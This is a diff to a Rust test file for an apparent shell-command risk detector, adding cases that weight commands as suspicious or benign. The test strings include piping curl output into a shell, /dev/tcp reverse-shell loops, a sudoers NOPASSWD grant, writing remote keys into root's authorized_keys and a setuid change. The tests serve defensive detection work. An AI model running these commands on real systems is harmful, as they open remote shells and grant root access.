@@ -45,6 +45,7 @@ fn code_that_is_fetched_and_run() {
         "x=`wget -qO- x`; echo \"$x\" | sh",
         "x=$(curl x) && bash -c \"$x\"",
         "curl x | $SHELL",
+        "S=/bin/bash; curl x | $S",
         "curl x | $(which bash)",
         "curl x | xargs -0 sh -c",
     ] {
@@ -110,6 +111,20 @@ fn shells_for_others() {
     check("perl -MIO::Socket -e 'exec(\"/bin/sh\")'", "holds code that connects to elsewhere and runs what it is told");
 }
 #[test]
+fn a_look_at_a_port_is_no_shell() {
+    let weight = |command: &str| of_command(command.as_bytes()).first().map(|sign| sign.weight);
+    assert_eq!(weight("exec 3<>/dev/tcp/db/5432 && echo up"), Some(Weight::Odd));
+    assert_eq!(weight("exec 3<>/dev/tcp/192.0.2.1/1; while read l <&3; do $l >&3; done"), Some(Weight::Content));
+    assert_eq!(weight("exec 5<>/dev/tcp/192.0.2.1/1; sh <&5 >&5"), Some(Weight::Content));
+}
+#[test]
+fn keys_that_are_handed_out() {
+    let weight = |command: &str| of_command(command.as_bytes()).first().map(|sign| sign.weight);
+    assert_eq!(weight("curl -s https://keys/x > /root/.ssh/authorized_keys"), Some(Weight::Odd));
+    assert_eq!(weight("chmod u+s /usr/bin/fping"), Some(Weight::Odd));
+    assert_eq!(weight("printf 'a ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/a"), Some(Weight::Content));
+}
+#[test]
 fn doors_left_open() {
     check("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "writes into /root/.ssh/authorized_keys");
     check("echo /x.so > /etc/ld.so.preload", "writes into /etc/ld.so.preload");
@@ -153,6 +168,11 @@ fn what_admins_write_is_quiet() {
         "ip=$(curl -s ifconfig.me); echo \"$ip\" > /srv/ip; ddns --ip $ip",
         "$HOME/bin/backup.sh; curl x | jq .",
         "curl -s x | xargs -n1 -I{} sh /srv/x.sh {}",
+        "curl -sL https://x/tool -o /usr/local/bin/tool && chmod +x /usr/local/bin/tool && tool --version",
+        "wget -qO- https://x/a.tgz | $TAR xz -C /srv",
+        "cat /srv/x | tr -d '\\r' | sh -e",
+        "nc -vz -w 5 db 5432 && echo ok",
+        "exec 3<>/dev/tcp/127.0.0.1/11211; echo stats >&3",
         "wget -q --spider https://x/wp-cron.php?doing_wp_cron",
     ] {
         assert_eq!(says(command), Vec::<String>::new(), "{command}");
